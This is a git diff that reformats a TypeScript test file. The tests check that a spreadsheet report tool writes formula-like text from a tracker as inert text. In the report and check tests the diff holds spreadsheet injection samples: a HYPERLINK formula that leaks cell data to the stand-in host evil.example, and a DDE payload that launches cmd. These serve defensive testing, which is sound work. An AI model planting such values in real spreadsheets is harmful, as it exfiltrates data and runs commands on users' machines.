@@ -6,7 +6,14 @@ import * as path from "path";
 import { cleanText } from "../../src/core/text";
 import { HostileManifest } from "../../scripts/make-hostile";
 import { cli, sha256, tempDir } from "../helpers/cli";
-import { expectCleanOutcome, generateCorpus, openZip, partsWithFormulas, textStrings, xmlParts } from "./outcome";
+import {
+  expectCleanOutcome,
+  generateCorpus,
+  openZip,
+  partsWithFormulas,
+  textStrings,
+  xmlParts,
+} from "./outcome";
 
 describe("formula-like text from a tracker is written as text", () => {
   const corpus = tempDir("pyp-inject-");
@@ -31,14 +38,20 @@ describe("formula-like text from a tracker is written as text", () => {
    * names are trimmed like every cell; remarks are quoted in memo prose with whitespace runs folded.
    */
   function plantedTexts(): string[] {
-    return manifest.injection_strings.flatMap((s) => [`ID${s}`, cleanText(s), `remark ${s}`.replace(/\s+/g, " ")]);
+    return manifest.injection_strings.flatMap((s) => [
+      `ID${s}`,
+      cleanText(s),
+      `remark ${s}`.replace(/\s+/g, " "),
+    ]);
   }
 
   async function expectTextOnly(out: string): Promise<void> {
     const parts = await xmlParts(await openZip(out));
     expect(partsWithFormulas(parts)).toEqual([]);
     const strings = new Set(textStrings(parts));
-    const missing = plantedTexts().filter((t) => ![...strings].some((s) => s === t || s.includes(t)));
+    const missing = plantedTexts().filter(
+      (t) => ![...strings].some((s) => s === t || s.includes(t))
+    );
     expect(missing).toEqual([]);
   }
 
@@ -52,18 +65,37 @@ describe("formula-like text from a tracker is written as text", () => {
     expect(textStrings(parts)).toContain("ID&<x>");
   });
 
-  it.each(["th", "en"])("report --lang %s: no formula anywhere, each string present verbatim", async (lang) => {
-    const before = sha256(input);
-    const out = path.join(outDir, `report-${lang}.xlsx`);
-    const run = await cli("report", input, "--out", out, "--lang", lang, "--json", "--today", "2026-11-25");
-    expectCleanOutcome(run, input, "json");
-    expect(run.code).toBe(0);
-    await expectTextOnly(out);
-    // Project names of included rows stand alone in a cell (linkage map), not only inside messages.
-    const strings = textStrings(await xmlParts(await openZip(out)));
-    expect(strings).toEqual(expect.arrayContaining(['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "=1+1"]));
-    expect(sha256(input)).toBe(before);
-  });
+  it.each(["th", "en"])(
+    "report --lang %s: no formula anywhere, each string present verbatim",
+    async (lang) => {
+      const before = sha256(input);
+      const out = path.join(outDir, `report-${lang}.xlsx`);
+      const run = await cli(
+        "report",
+        input,
+        "--out",
+        out,
+        "--lang",
+        lang,
+        "--json",
+        "--today",
+        "2026-11-25"
+      );
+      expectCleanOutcome(run, input, "json");
+      expect(run.code).toBe(0);
+      await expectTextOnly(out);
+      // Project names of included rows stand alone in a cell (linkage map), not only inside messages.
+      const strings = textStrings(await xmlParts(await openZip(out)));
+      expect(strings).toEqual(
+        expect.arrayContaining([
+          '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+          "+cmd|' /C calc'!A0",
+          "=1+1",
+        ])
+      );
+      expect(sha256(input)).toBe(before);
+    }
+  );
 
   it("the sheet and file names of the tracker land as text too", async () => {
     const out = path.join(outDir, "report-names.xlsx");
@@ -85,7 +117,9 @@ describe("formula-like text from a tracker is written as text", () => {
   it("check --json reports the strings as data, unchanged", async () => {
     const run = await cli("check", input, "--json");
     const outcome = expectCleanOutcome(run, input, "json");
-    const values = ((outcome.kind === "json" ? outcome.doc.issues : []) as { value: string }[]).map((i) => i.value);
+    const values = ((outcome.kind === "json" ? outcome.doc.issues : []) as { value: string }[]).map(
+      (i) => i.value
+    );
     expect(values).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"click")');
   });
 });
